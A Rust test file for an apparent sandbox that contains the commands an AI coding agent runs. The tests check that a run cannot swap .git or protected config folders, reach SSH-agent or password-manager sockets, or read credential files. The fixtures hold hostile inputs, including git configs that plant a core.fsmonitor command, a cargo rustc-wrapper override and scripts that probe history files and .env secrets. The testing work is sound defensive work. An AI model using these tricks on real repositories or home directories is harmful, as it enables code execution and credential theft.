/// there (a commit) still goes through, and an ordinary folder still renames.
#[test]
fn a_repositorys_git_folder_cannot_be_swapped_but_git_still_commits() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let p = w.project();
    std::fs::remove_dir_all(p.join(".git")).unwrap();
    if !git_repo(&p) || !git_repo(&p.join("vendor/lib")) {
        eprintln!("skipped: git is not usable here");
        return;
    }
    std::fs::create_dir_all(p.join("src")).unwrap();
    std::fs::write(p.join("src/a.txt"), "a\n").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let script = "mv .git .git-orig 2>/dev/null && echo moved > swapped.txt
         mv vendor/lib/.git vendor/lib/.git-orig 2>/dev/null && echo moved > nested.txt
         rm -rf vendor/lib/.git 2>/dev/null; test -d vendor/lib/.git || echo gone > removed.txt
         git -C vendor/lib config core.fsmonitor 'touch pwned' 2>/dev/null && echo set > nested-config.txt
         git config -f .git/config core.fsmonitor 'touch pwned' 2>/dev/null && echo set > config.txt
         mv src src2 && mv src2 src && echo ok > renamed.txt
         git add src/a.txt && git -c user.email=t@example.invalid -c user.name=t commit -qm fenced && echo ok > committed.txt";
    let (code, err) = w.contain(&[], script);
    assert_eq!(code, 0, "{err}");
    assert!(!p.join("swapped.txt").exists(), ".git was renamed: {err}");
    assert!(!p.join("nested.txt").exists(), "a nested .git was renamed");
    assert!(!p.join("removed.txt").exists(), "a nested .git was removed");
    assert!(
        !p.join("nested-config.txt").exists(),
        "a nested config was written"
    );
    assert!(!p.join("config.txt").exists(), ".git/config was written");
    assert!(
        p.join("renamed.txt").exists(),
        "an ordinary folder did not rename"
    );
    assert!(p.join("committed.txt").exists(), "git commit failed: {err}");
    assert!(p.join(".git/config").exists() && !p.join(".git-orig").exists());
    assert!(!err.contains("moved to"), "nothing was quarantined: {err}");
    let log = Command::new("git")
        .args(["log", "--oneline"])
        .current_dir(&p)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&log.stdout).contains("fenced"));
}

/// Checked after the run all the same: a `.git` or a read-only place that is not the one that
/// was there before (here swapped from outside while the run waits) is moved aside.
#[test]
fn a_git_folder_or_read_only_place_that_is_another_after_the_run_is_moved_aside() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let p = w.project();
    w.put(".git/config", "[core]\n");
    w.put(".cargo/config.toml", "[build]\n");
    w.put(".vscode/settings.json", "{}\n");
    let child = w
        .sentinel()
        .arg("contain")
        .arg("--project")
        .arg(&p)
        .args([
            "--",
            "bash",
            "-c",
            "touch ready; while [ ! -e go ]; do sleep 0.05; done",
        ])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    while !p.join("ready").exists() {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    // Outside the fence no folder is a mount point: what a hole in it would let a run do.
    std::fs::rename(p.join(".git"), p.join(".git-orig")).unwrap();
    w.put(".git/config", "[core]\n\tfsmonitor = touch pwned\n");
    std::fs::rename(p.join(".cargo"), p.join(".cargo-old")).unwrap();
    w.put(".cargo/config.toml", "[build]\nrustc-wrapper = \"/x\"\n");
    std::fs::rename(p.join(".vscode"), p.join(".vscode-old")).unwrap();
    w.put(".vscode/tasks.json", "{}\n");
    std::fs::write(p.join("go"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(!p.join(".git").exists(), "a swapped .git stayed: {err}");
    assert!(!p.join(".cargo/config.toml").exists(), "{err}");
    assert!(p.join(".cargo").is_dir(), "only the protected place goes");
    assert!(!p.join(".vscode").exists(), "{err}");
    assert!(err.contains("replaced"), "the person is told: {err}");
    assert!(
        p.join(".git-orig/config").exists(),
        "the original is untouched"
    );
}

/// `.cargo/config.toml` and `.github/hooks` are read-only; the folders above them cannot be
/// renamed to carry them away, and stay writable otherwise.
#[test]
fn the_folder_above_a_read_only_place_cannot_be_renamed() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    w.put(".cargo/config.toml", "[build]\n");
    w.put(".github/hooks/hooks.json", "{}\n");
    w.put(".github/ISSUE_TEMPLATE.md", "# Bug\n");
    let script = "mv .cargo .cargo-old 2>/dev/null && echo moved > cargo.txt
         mv .github .github-old 2>/dev/null && echo moved > github.txt
         echo x >> .cargo/config.toml 2>/dev/null && echo wrote > config.txt
         echo '# note' >> .github/ISSUE_TEMPLATE.md && echo '[x]' > .cargo/notes.toml && echo ok > neighbour.txt";
    let (code, err) = w.contain(&[], script);
    assert_eq!(code, 0, "{err}");
    let p = w.project();
    assert!(!p.join("cargo.txt").exists(), ".cargo was renamed");
    assert!(!p.join("github.txt").exists(), ".github was renamed");
    assert!(
        !p.join("config.txt").exists(),
        ".cargo/config.toml was written"
    );
    assert!(p.join("neighbour.txt").exists(), "{err}");
    assert_eq!(
        std::fs::read_to_string(p.join(".cargo/config.toml")).unwrap(),
        "[build]\n"
    );
}

/// A program's socket in the home (an SSH agent's, a password manager's) is covered, and so is
/// the one `~/.ssh/config` names with `IdentityAgent` however deep it sits; a socket the run
/// makes itself works.
#[test]
fn sockets_in_the_home_and_ssh_identity_agents_are_out_of_reach() {
    let w = World::new();
    if !available(&w) || Command::new("python3").arg("-V").output().is_err() {
        return;
    }
    let h = w.home();
    std::fs::create_dir_all(h.join(".1password")).unwrap();
    let deep = h.join("a/b/c/d/e");
    std::fs::create_dir_all(&deep).unwrap();
    let _agent = std::os::unix::net::UnixListener::bind(h.join(".1password/agent.sock")).unwrap();
    let _named = std::os::unix::net::UnixListener::bind(deep.join("agent.sock")).unwrap();
    std::fs::write(
        h.join(".ssh/config"),
        "Host *\n  IdentityAgent \"~/a/b/c/d/e/agent.sock\"\n",
    )
    .unwrap();
    let script = format!(
        "python3 - <<'EOF'
import socket
for name, path in [('agent', '{a}'), ('named', '{n}'), ('own', '/tmp/own.sock')]:
    if name == 'own':
        srv = socket.socket(socket.AF_UNIX); srv.bind(path); srv.listen(1)
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path); open(name + '.txt', 'w').write('connected')
    except OSError as e:
        pass
EOF",
        a = h.join(".1password/agent.sock").display(),
        n = deep.join("agent.sock").display()
    );
    let (code, err) = w.contain(&[], &script);
    assert_eq!(code, 0, "{err}");
    let p = w.project();
    assert!(
        !p.join("agent.txt").exists(),
        "~/.1password/agent.sock reached"
    );
    assert!(
        !p.join("named.txt").exists(),
        "the IdentityAgent socket reached"
    );
    assert!(
        p.join("own.txt").exists(),
        "the run's own socket failed: {err}"
    );
}

/// Credentials the home walk missed: shell histories, the IDE lock tokens, Jupyter's runtime,
/// and a `.env` in another checkout deeper than four levels (`~/src/github.com/ORG/REPO/.env`).
/// The same paths are credentials to the Read tool.
#[test]
fn histories_ide_tokens_and_other_checkouts_env_files_are_covered() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let h = w.home();
    let secrets = [
        ".bash_history",
        ".zsh_history",
        ".psql_history",
        ".local/share/fish/fish_history",
        ".claude/ide/45678.lock",
        ".local/share/jupyter/runtime/kernel-1.json",
        "src/github.com/org/other/.env",
        "go/src/github.com/org/svc/cmd/api/.env",
        "work/a/b/c/.env.local",
    ];
    for s in secrets {
        let p = h.join(s);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, "CANARY\n").unwrap();
    }
    std::fs::write(h.join("src/github.com/org/other/README.md"), "readme\n").unwrap();
    let script = format!(
        "cd {} && for f in {}; do grep -q CANARY \"$f\" 2>/dev/null && echo \"$f\" >> {}/read.txt; done; cat src/github.com/org/other/README.md > {}/readme.txt",
        h.display(),
        secrets.join(" "),
        w.project().display(),
        w.project().display()
    );
    let (code, err) = w.contain(&[], &script);
    assert_eq!(code, 0, "{err}");
    let p = w.project();
    let read = std::fs::read_to_string(p.join("read.txt")).unwrap_or_default();
    assert!(read.is_empty(), "read in the fence: {read}");
    assert_eq!(
        std::fs::read_to_string(p.join("readme.txt")).unwrap(),
        "readme\n",
        "another checkout's code stays readable"
    );
    for s in [".bash_history", ".claude/ide/45678.lock"] {
        let event = json!({
            "hook_event_name": "PreToolUse",
            "session_id": "contain-test",
            "cwd": p,
            "permission_mode": "bypassPermissions",
            "tool_name": "Read",
            "tool_input": {"file_path": h.join(s)},
        });
        let mut cmd = w.sentinel();
        cmd.arg("hook");
        let out = common::feed(cmd, event.to_string().as_bytes());
        let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            answer["hookSpecificOutput"]["permissionDecision"], "ask",
            "{s}: {answer}"
        );
    }
}

/// A run that makes more folders than the look after it goes through leaves the project
/// unverified: git there is not allowed without the person until a later look, going back to
/// that run, is complete (and moves aside the nested repository it made). Files do not count.
#[test]
fn a_look_that_cannot_finish_leaves_the_project_unverified_until_one_does() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let p = w.project();
    let contain = |script: &str, max: Option<&str>| {
        let mut c = w.sentinel();
        if let Some(m) = max {
            c.env("SENTINEL_CONTAIN_MAX_DIRS", m);
        }
        let out = c
            .arg("contain")
            .arg("--project")
            .arg(&p)
            .args(["--", "bash", "-c", script])
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let git_status = || {
        w.hook(json!({"command": "git status"}), "bypassPermissions")["hookSpecificOutput"]
            ["permissionDecision"]
            .clone()
    };
    // Many files in few folders: the look is complete.
    let err = contain(
        "mkdir many && for i in $(seq 300); do : > many/f$i; done",
        Some("20"),
    );
    assert!(!err.contains("unverified"), "{err}");
    assert_eq!(git_status(), "allow");
    // More folders than the look may enter, and a nested repository among them.
    let err = contain(
        "for i in $(seq 40); do mkdir -p d$i/x; done; mkdir -p d40/x/sub/.git && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > d40/x/sub/.git/config",
        Some("20"),
    );
    assert!(err.contains("unverified"), "{err}");
    let records = w.sentinel_home().join("unverified");
    let files: Vec<_> = std::fs::read_dir(&records).unwrap().flatten().collect();
    assert_eq!(files.len(), 1);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        files[0].metadata().unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(git_status(), "ask", "git allowed in an unverified project");
    assert_eq!(
        w.hook(json!({"command": "ls -la"}), "bypassPermissions")["hookSpecificOutput"]["permissionDecision"],
        "allow"
    );
    let doctor = w.sentinel().args(["doctor", "--json"]).output().unwrap();
    assert!(
        String::from_utf8_lossy(&doctor.stdout).contains("unverified"),
        "doctor says so"
    );
    // A complete look, going back to that run: the nested repository goes, git is allowed.
    let err = contain("true", None);
    assert!(err.contains("verified"), "{err}");
    assert!(!p.join("d40/x/sub/.git").exists(), "{err}");
    assert!(!records.join(files[0].file_name()).exists());
    assert_eq!(git_status(), "allow");
}
